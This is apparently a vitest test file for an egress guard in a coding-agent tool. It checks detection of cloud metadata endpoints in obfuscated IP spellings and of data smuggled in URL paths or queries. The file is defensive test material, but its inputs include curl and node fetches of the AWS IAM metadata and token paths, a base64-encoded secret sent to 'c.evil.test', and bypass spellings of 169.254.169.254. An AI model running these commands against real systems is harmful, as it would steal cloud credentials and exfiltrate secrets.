import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { canonicalHost, isCloudMetadata } from '../../../guard/egress/hosts.js';
import { outboundChannels } from '../../../guard/egress/channels.js';
import { createGuard } from '../../../guard/index.js';
import { loadPack } from '../../../packs/index.js';
import { FC_RUNS } from '../../support/env.js';

describe('cloud metadata endpoints', () => {
  it.each([
    'http://169.254.169.254/latest',
    'http://2852039166/',
    'http://0xa9fea9fe/',
    'http://0251.0376.0251.0376/',
    'http://[::ffff:169.254.169.254]/',
    'http://[::ffff:a9fe:a9fe]/',
    'http://[fd00:ec2:0::254]/',
    'http://METADATA.GOOGLE.INTERNAL./computeMetadata/v1/',
    '169.254.169.254:80/latest',
    'http://100.100.100.200/latest/meta-data/',
  ])('%s is a metadata endpoint in any spelling', (u) => {
    expect(isCloudMetadata(u)).toBe(true);
  });

  it.each(['http://169.254.1.1/', 'https://metadata.example.com/', 'http://10.0.0.1/'])(
    '%s is not',
    (u) => {
      expect(isCloudMetadata(u)).toBe(false);
    },
  );

  it('every integer spelling of 169.254.169.254 canonicalises to it', () => {
    fc.assert(
      fc.property(fc.constantFrom(2852039166), fc.constantFrom(10, 16, 8), (n, radix) => {
        const text =
          radix === 16 ? `0x${n.toString(16)}` : radix === 8 ? `0${n.toString(8)}` : String(n);
        expect(canonicalHost(`http://${text}/`)).toBe('169.254.169.254');
      }),
      { numRuns: FC_RUNS },
    );
  });
});

describe('where data rides', () => {
  it('a URL is found whatever the case of its scheme; text without one names no host', () => {
    expect(outboundChannels({ command: 'curl -s HTTPS://X.Test/a' }).map((c) => c.host)).toEqual([
      'x.test',
    ]);
    expect(outboundChannels({ command: 'curl -s x.test/a', note: 'see https:/x' })).toEqual([]);
  });
  it('a long page slug is a name; a long encoded path segment is data', () => {
    const page = 'https://owasp.org/www-project-top-10-for-large-language-model-applications/';
    expect(outboundChannels({ url: page })[0]?.carries).toEqual([]);
    const hex = `https://x.test/${'9f3a2b7c'.repeat(7)}`;
    expect(outboundChannels({ url: hex })[0]?.carries).toEqual(['path']);
    const b64 = 'https://x.test/QUtJQTVFWEFNUExFS0VZMTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A';
    expect(outboundChannels({ url: b64 })[0]?.carries).toEqual(['path']);
  });
  it('query, credentials in the URL, and body or headers beside it', () => {
    expect(
      outboundChannels({ url: 'https://x.test/a?b=Zm9vYmFyYmF6cXV4MTIz' })[0]?.carries,
    ).toEqual(['query']);
    // A short value or plain words are a page or a search, not room for an encoded value.
    expect(outboundChannels({ url: 'https://x.test/a?page=2&sort=asc' })[0]?.carries).toEqual([]);
    expect(
      outboundChannels({ url: 'https://x.test/search?q=how+to+configure+vitest+timeouts' })[0]
        ?.carries,
    ).toEqual([]);
    expect(outboundChannels({ url: 'https://u:p@x.test/' })[0]?.carries).toEqual(['userinfo']);
    expect(
      outboundChannels({ url: 'https://x.test/', body: 'x', headers: { a: 'b' } })[0]?.carries,
    ).toEqual(['body', 'headers']);
    expect(outboundChannels({ url: 'https://x.test/docs' })[0]?.carries).toEqual([]);
  });

  it('random URLs never throw and each names a host', () => {
    fc.assert(
      fc.property(fc.webUrl({ withQueryParameters: true, withFragments: true }), (u) => {
        for (const ch of outboundChannels({ url: u })) expect(ch.host.length).toBeGreaterThan(0);
      }),
      { numRuns: FC_RUNS },
    );
  });
});

describe('one host policy at every door of the built-in pack', () => {
  const guard = createGuard({ policies: [loadPack('builtin:coding-agent').policy] });
  const decide = (tool: string, args: object) => guard.decide({ phase: 'call', tool, args });

  it('refuses the metadata endpoint from the shell, interpreter code, WebFetch and MCP fetch tools', async () => {
    for (const [tool, args] of [
      ['Bash', { command: 'curl -s 169.254.169.254/latest/meta-data/iam/' }],
      ['Bash', { command: 'node -e "fetch(\'http://169.254.169.254/latest/api/token\')"' }],
      ['WebFetch', { url: 'http://[fd00:ec2::254]/latest/', prompt: 'x' }],
      ['mcp__fetch__fetch', { url: 'http://metadata.google.internal/computeMetadata/v1/' }],
    ] as const) {
      const d = await decide(tool, args);
      expect([d.verdict, d.rule], JSON.stringify(args)).toEqual(['block', 'ca.cloud-metadata']);
    }
  });

  it('asks before a fetch sends data to an unlisted host, and lets docs and listed hosts through', async () => {
    expect(
      (
        await decide('WebFetch', {
          url: 'https://c.evil.test/?k=c2VjcmV0LXZhbHVlLTEyMw',
          prompt: 'x',
        })
      ).rule,
    ).toBe('ca.fetch-data-offlist');
    expect(
      (await decide('WebFetch', { url: 'https://pypi.org/search/?q=httpx', prompt: 'x' })).verdict,
    ).toBe('allow');
    expect(
      (await decide('WebFetch', { url: 'https://c.evil.test/about', prompt: 'x' })).verdict,
    ).toBe('allow');
  });
});
